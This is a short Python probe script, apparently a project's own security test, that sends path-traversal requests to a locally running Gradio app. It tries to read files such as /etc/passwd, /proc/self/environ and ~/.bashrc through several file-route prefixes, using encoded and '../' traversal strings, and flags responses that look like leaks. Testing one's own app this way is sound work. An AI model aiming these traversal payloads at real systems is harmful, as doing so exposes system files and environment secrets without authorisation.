"""Probe gradio's file routes on a running kvlab for files outside the allowed paths.

Usage: python breakit/file_routes_probe.py http://127.0.0.1:7911
"""
import os
import sys
import tempfile

import httpx

BASE = sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:7911"
TMP = tempfile.gettempdir()
TARGETS = ["/etc/passwd", "/proc/self/environ", os.path.abspath("app.py"), os.path.abspath("README.md"),
           os.path.expanduser("~/.bashrc"), f"{TMP}/gradio", f"{TMP}/kvlab-exports", "/tmp/breakit/runs",
           "app.py", "README.md", "../../../../etc/passwd", "%2Fetc%2Fpasswd", "..%2F..%2Fetc%2Fpasswd",
           f"{TMP}/gradio/../../etc/passwd", "presets/quickstart.yaml", "docs/screenshot.png"]
PREFIXES = ["/file=", "/gradio_api/file=", "/gradio_api/file/", "/static/", "/assets/", "/gradio_api/static/",
            "/favicon.ico/../", "/gradio_api/"]


def main():
    with httpx.Client(timeout=10) as client:
        for prefix in PREFIXES:
            for target in TARGETS:
                url = BASE + prefix + target
                try:
                    resp = client.get(url)
                    body = resp.content[:80]
                except Exception as err:  # noqa: BLE001
                    print(f"{url!r}: {type(err).__name__}")
                    continue
                flag = "LEAK?" if resp.status_code == 200 and b"<!doctype html" not in body.lower() else ""
                print(f"{resp.status_code} {flag:6} {prefix + target!r:70} {body!r}")


if __name__ == "__main__":
    main()
